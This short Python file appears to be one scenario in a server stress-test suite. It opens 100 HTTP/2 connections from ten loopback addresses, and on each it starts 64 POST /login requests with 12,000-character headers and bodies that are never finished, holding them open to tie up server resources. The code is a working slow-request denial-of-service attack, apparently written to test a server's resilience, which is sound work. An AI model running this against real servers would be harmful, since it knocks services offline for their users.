from _crowd import crowd
from _http2 import DATA, connect, frame, request

WHAT = "100 HTTP/2 connections from 10 addresses, 64 unfinished POST /login of 15 KiB with headers of 12 KiB on each"


def attack(box, stop):
    def one(number):
        s = connect(box, f"127.0.1.{number % 10 + 1}")
        try:
            for i in range(64):
                stream = 2 * i + 1
                s.sendall(request(stream, "POST", "/login", False, content_length="15360", x_long="x" * 12_000,
                                  content_type="application/x-www-form-urlencoded"))
                s.sendall(frame(DATA, 0, stream, b"a" * 1_000))
            stop.wait(5)
        finally:
            s.close()

    return "%d connections, %d of them cut" % crowd(100, stop, one)
